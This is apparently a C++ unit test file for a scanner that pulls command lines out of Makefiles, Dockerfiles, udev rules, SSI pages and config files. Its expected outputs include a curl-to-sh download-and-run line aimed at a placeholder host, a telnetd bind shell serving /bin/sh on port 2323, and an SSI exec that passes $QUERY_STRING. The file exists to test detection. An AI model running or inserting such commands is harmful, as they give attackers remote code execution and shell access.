#include "tests/facts/examine.h"

namespace assay::facts {
namespace {

using testing::Examine;
using testing::ExpectLawful;
using testing::PlaceText;
using testing::Sample;
using testing::Strings;
using testing::Sweep;

const Bytes kMakefile = Sample("facts/command_lines/Makefile");
const Bytes kSettings = Sample("facts/command_lines/demo.conf");

TEST(CommandLinesTest, ReadsRecipes) {
  const auto seen = Examine(kCommandLines, "src/Makefile", kMakefile);
  EXPECT_EQ(seen.Lines(),
            (Strings{"command echo http://192.0.2.1 program=echo line=3 "
                     "within=make",
                     "command curl -s http://192.0.2.1/x program=curl line=5 "
                     "pipe_to=sh within=make",
                     "command sh program=sh line=5 within=make",
                     "command a $@ program=a line=7 within=make",
                     "command b $@ program=b line=7 within=make",
                     "command date +%s program=date line=8 within=make"}));
  EXPECT_EQ(PlaceText(seen.facts[1], kMakefile),
            "\t@curl -s $(FROM)/x \\\n\t  | sh");
}

TEST(CommandLinesTest, ReadsSettings) {
  const auto seen = Examine(kCommandLines, "etc/demo.conf", kSettings);
  EXPECT_EQ(seen.Lines(),
            (Strings{"command /usr/sbin/telnetd -p 2323 -l /bin/sh "
                     "program=telnetd within=config",
                     "listener 2323 protocol=tcp program=telnetd "
                     "source=config"}));
}

struct Case {
  std::string_view path;
  std::string_view text;
  Strings commands;
};

TEST(CommandLinesTest, ReadsWhatRunsCommands) {
  const std::vector<Case> cases = {
      {"Dockerfile", "FROM x\nENV A=b\nRUN c $A && \\\n  d\n", {"c b", "d"}},
      {"configure.ac", "AC_INIT\nx=y\nif $x z; then\nfi\n", {"AC_INIT", "y z"}},
      {"lib/udev/rules.d/9.rules",
       "A==\"b\", RUN+=\"/bin/sh -c 'c; d'\"\n",
       {"/bin/sh -c c; d", "c", "d"}},
      {"etc/modprobe.d/x.conf",
       "install usb /bin/a; /bin/b\n",
       {"/bin/a", "/bin/b"}},
      {"etc/logrotate.d/x",
       "/var/log/x {\npostrotate\n a b\n c\nendscript\n}",
       {"a b", "c"}},
      {"www/x.shtml",
       "<p><!--#exec cmd=\"a $QUERY_STRING\" --></p>",
       {"a $QUERY_STRING"}},
      {"etc/config/x", "config y\n\toption script '/bin/a b'\n", {"/bin/a b"}},
      {"etc/snmp/snmpd.conf", "extend-sh /bin/a\npass .1.3 /bin/b\n", {}},
      {"etc/x.conf",
       "on_up=/bin/a b\nnotify: \"/bin/c d\"\n",
       {"/bin/a b", "/bin/c d"}},
      {"etc/dnsmasq.conf", "dhcp-script=/bin/a\n", {"/bin/a"}},
      // What only looks like it.
      {"Makefile", "# \ta\nb: c\nA := d\n.PHONY: e\nifeq (a,b)\nendif\n", {}},
      {"Dockerfile", "# RUN a\nCOPY RUN b\n", {}},
      {"lib/udev/rules.d/9.rules", "#RUN+=\"/bin/a\"\nENV{RUN}=\"\"\n", {}},
      {"etc/udev/9.rules", "RUN+=\"/bin/a\"\n", {}},
      {"etc/modprobe.d/x.conf", "options usb a=/bin/b\nblacklist c d\n", {}},
      {"etc/logrotate.d/x", "postrotate\n a\n", {}},
      {"www/x.html", "<!--#exec cmd=\"a\" -->", {}},
      {"www/x.shtml", "<!--#include virtual=\"a\" -->", {}},
      {"etc/x.conf", "command = a b\ncommands = /bin/a\nrun\nexec=\n", {}},
      {"etc/x.conf", "#command = /bin/a\ndescription = /bin/a\n", {}},
      {"usr/share/x", "command = /bin/a\n", {}},
  };
  for (const Case& one : cases) {
    EXPECT_EQ(Examine(kCommandLines, one.path, one.text).Values("command"),
              one.commands)
        << one.path << "\n"
        << one.text;
  }
}

TEST(CommandLinesTest, SurvivesAnyInput) {
  Sweep(kCommandLines, "Makefile", kMakefile);
  Sweep(kCommandLines, "etc/demo.conf", kSettings);
}

}  // namespace
}  // namespace assay::facts
